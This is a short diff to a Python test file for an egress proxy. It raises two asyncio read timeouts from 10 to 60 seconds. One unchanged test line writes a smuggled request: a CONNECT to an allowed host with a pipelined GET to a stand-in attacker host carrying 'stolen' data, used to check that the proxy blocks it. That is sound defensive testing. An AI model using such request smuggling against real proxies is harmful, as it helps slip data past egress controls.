@@ -134,7 +134,7 @@ def answer_to(head):
         egress_proxy._server = server = await asyncio.start_server(egress_proxy._come, sock=listener)
         reader, writer = await asyncio.open_connection(*listener.getsockname())
         writer.write(head)
-        answer = await asyncio.wait_for(reader.read(), 10)
+        answer = await asyncio.wait_for(reader.read(), 60)
         writer.close()
         server.close()
         await egress_proxy.close()
@@ -225,7 +225,7 @@ def test_behind_a_proxy_nothing_but_what_was_allowed_is_passed_on():
         writer.write(
             b"CONNECT pypi.example.com:443 HTTP/1.1\r\n\r\nGET http://evil.example.com/?stolen HTTP/1.1\r\n\r\n"
         )
-        await asyncio.wait_for(reader.read(), 10)
+        await asyncio.wait_for(reader.read(), 60)
         writer.close()
         server.close()
         upstream.close()
